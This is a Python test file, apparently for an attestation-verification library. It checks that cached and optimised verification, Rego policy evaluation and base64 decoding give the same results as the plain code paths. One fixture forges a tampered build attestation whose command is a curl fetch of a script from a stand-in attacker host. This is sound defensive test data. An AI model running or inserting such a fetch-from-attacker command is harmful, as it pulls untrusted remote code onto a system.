"""The speed-ups of `verify` change no result: random policies (Rego allow/deny/errors on several
steps and types), extra and re-signed collections, both modes, search depths: the optimised path,
cold and warm, returns exactly what the plain path (`perf_settings(caches=False, batch_rego=False)`)
returns. Plus the signature cache's own contract."""

from __future__ import annotations

import base64
import copy
import re
from typing import Any
from unittest.mock import patch

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from verify_world import World, as_source, resign

from witness_evals.witness import crypto, gocompat, simulate
from witness_evals.witness.crypto import SignatureCache
from witness_evals.witness.verify import TRUSTED_REGO, SourceCollection, clear_caches, perf_settings
from witness_evals.witness.versions import NAMES

CMD = "https://witness.dev/attestations/command-run/v0.1"
GIT = "https://witness.dev/attestations/git/v0.1"
MODULES = {
    "allow": 'package commandrun.ok\n\ndeny[msg] {\n\tinput.exitcode != 0\n\tmsg := "exit"\n}\n',
    "deny": 'package commandrun.no\n\ndeny[msg] {\n\tcount(input.cmd) > 0\n\tmsg := "no commands"\n}\n',
    "git deny": 'package git.no\n\ndeny[msg] {\n\tinput.commithash != ""\n\tmsg := "no commits"\n}\n',
    "bad data": 'package x\n\ndeny := "nope"\n',
    "parse error": "package x\n\ndeny[msg] {\n",
}


def _extras(world: World) -> dict[str, SourceCollection]:
    build = world.pipe.steps["build"].envelope
    package = world.pipe.steps["package"].envelope

    def duplicate_cmd(stmt: dict[str, Any]) -> None:
        atts = stmt["predicate"]["attestations"]
        cmd = next(a for a in atts if a["type"] == CMD)
        first = copy.deepcopy(cmd)
        first["attestation"]["cmd"] = ["curl", "http://evil.example/x.sh"]
        atts.insert(atts.index(cmd), first)

    def move(stmt: dict[str, Any]) -> None:
        for att in stmt["predicate"]["attestations"]:
            if att["type"].endswith("/material/v0.1"):
                att["attestation"] = {f"elsewhere/{k}": v for k, v in att["attestation"].items()}

    def bad_material(stmt: dict[str, Any]) -> None:
        for att in stmt["predicate"]["attestations"]:
            if att["type"].endswith("/material/v0.1"):
                for digests in att["attestation"].values():
                    digests["sha256"] = "e" * 64

    return {
        "doubled build": as_source(resign(build, world.build_key, duplicate_cmd), "b2.json"),
        "stranger build": as_source(resign(build, world.other_key, lambda s: None), "b3.json"),
        "bad package": as_source(resign(package, world.package_key, bad_material), "p2.json"),
        "package by build key": as_source(resign(package, world.build_key, lambda s: None), "p3.json"),
        "moved package": as_source(resign(package, world.package_key, move), "p4.json"),
    }


EXTRAS = ["doubled build", "stranger build", "bad package", "package by build key", "moved package"]
rego_choice = st.dictionaries(
    st.sampled_from([("build", CMD), ("build", GIT), ("package", CMD), ("package", GIT)]),
    st.lists(st.sampled_from(sorted(MODULES)), min_size=1, max_size=2),
    max_size=3,
)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    rego=rego_choice,
    extras=st.lists(st.sampled_from(EXTRAS)),
    drop_package=st.booleans(),
    depth=st.integers(1, 3),
    reverse=st.booleans(),
)
@example(rego={}, extras=["moved package"], drop_package=True, depth=3, reverse=False)
@example(rego={("build", CMD): ["deny"]}, extras=EXTRAS, drop_package=False, depth=3, reverse=True)
def test_optimised_equals_plain(
    world: World,
    rego: dict[tuple[str, str], list[str]],
    extras: list[str],
    drop_package: bool,
    depth: int,
    reverse: bool,
) -> None:
    spec: dict[str, dict[str, list[Any]]] = {}
    for (step, typ), names in rego.items():
        spec.setdefault(step, {})[typ] = [simulate.rego_module(n, MODULES[n]) for n in names]
    pol = world.policy(rego=spec)
    if reverse:
        pol["steps"] = dict(reversed(pol["steps"].items()))
    env = simulate.sign_policy(pol, world.policy_key)
    extra = _extras(world)

    def cols() -> list[SourceCollection]:
        fresh = {n: as_source(c.envelope, c.reference) for n, c in extra.items()}
        base = world.collections()[:1] if drop_package else world.collections()
        return [*base, *(fresh[n] for n in dict.fromkeys(extras))]

    modes = NAMES
    kw: dict[str, Any] = {"search_depth": depth, "rego": TRUSTED_REGO}
    with perf_settings(caches=False, batch_rego=False):
        plain = {m: world.verify(env, collections=cols(), version=m, **kw).to_json() for m in modes}
    clear_caches()
    same = cols()  # both modes on the same objects: their memos must keep the modes apart
    for m in (*modes, *modes):
        assert world.verify(env, collections=same, version=m, **kw).to_json() == plain[m]
    for m in modes:
        assert world.verify(env, collections=cols(), version=m, **kw).to_json() == plain[m]


def test_signature_cache_is_exact_and_bounded() -> None:
    keys = [
        crypto.Signer(crypto.generate_private_key(k, seed=5)) for k in ("ed25519", "ecdsa-p256", "rsa-2048")
    ]
    cache = SignatureCache(maxsize=4)
    for signer in keys:
        v = signer.verifier()
        sig = signer.sign(b"data")
        for _ in range(2):
            assert cache.signature_error(v.keyid, v.public_key, b"data", sig) is None
            assert cache.signature_error(v.keyid, v.public_key, b"datA", sig) is not None
            bad = bytes([sig[0] ^ 1]) + sig[1:]
            assert cache.signature_error(v.keyid, v.public_key, b"data", bad) is not None
        other = keys[0].verifier() if signer is not keys[0] else keys[1].verifier()
        assert other.verify_error(b"data", sig) is not None  # same bytes, other key: no false hit
        assert len(cache) <= 4
    assert cache.hits >= 6 and cache.misses >= 6
    cache.enabled = False
    v = keys[0].verifier()
    size = len(cache)
    assert cache.signature_error(v.keyid, v.public_key, b"new", keys[0].sign(b"new")) is None
    assert len(cache) == size


@settings(max_examples=300, deadline=None)
@given(
    text=st.one_of(
        st.binary(max_size=40).map(lambda b: base64.b64encode(b).decode()),
        st.text(
            alphabet="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=\r\n -_é", max_size=16
        ),
    )
)
def test_base64_fast_path_matches_go_decoder(text: str) -> None:
    """The C fast path of `go_b64decode` (canonical padded text) decodes exactly like the Go-faithful scan."""

    def outcome(fn: Any) -> Any:
        try:
            return fn(text)
        except ValueError as exc:
            return str(exc)

    with patch.object(gocompat, "_B64_CANONICAL", re.compile(r"(?!)")):  # never matches: the scan only
        slow = outcome(gocompat.go_b64decode)
    assert outcome(gocompat.go_b64decode) == slow


def test_rego_outcome_cache_keeps_only_engine_verdicts() -> None:
    from witness_evals.witness.rego import RegoOutcome
    from witness_evals.witness.verify import TrustedRego, _RegoOutcomeCache

    cache = _RegoOutcomeCache(maxsize=2)
    rego, pred, mods = TrustedRego(), {"exitcode": 0}, (("m", "package x"),)
    for status, kind in (
        ("timeout", "timeout"),
        ("crash", "crash"),
        ("memory", "memory"),
        ("error", "limit"),
    ):
        cache.put(rego, str, mods, CMD, pred, RegoOutcome(status, error="x", kind=kind))  # type: ignore[arg-type]
        assert cache.get(rego, str, mods, CMD, pred) is None
    ok = RegoOutcome("ok", deny=["no"])
    cache.put(rego, str, mods, CMD, pred, ok)
    assert cache.get(rego, str, mods, CMD, pred) is ok
    assert cache.get(rego, str, mods, CMD, dict(pred)) is None  # an equal but other predicate object
    assert cache.get(rego, repr, mods, CMD, pred) is None  # another input function
    assert cache.get(TrustedRego(), str, mods, CMD, pred) is None  # another evaluator
    assert cache.get(rego, str, (("m", "package y"),), CMD, pred) is None
    with perf_settings(caches=False):
        assert cache.get(rego, str, mods, CMD, pred) is None
    for i in range(3):
        cache.put(rego, str, mods, CMD, {"i": i}, ok)
    assert cache.get(rego, str, mods, CMD, pred) is None  # evicted (bounded)
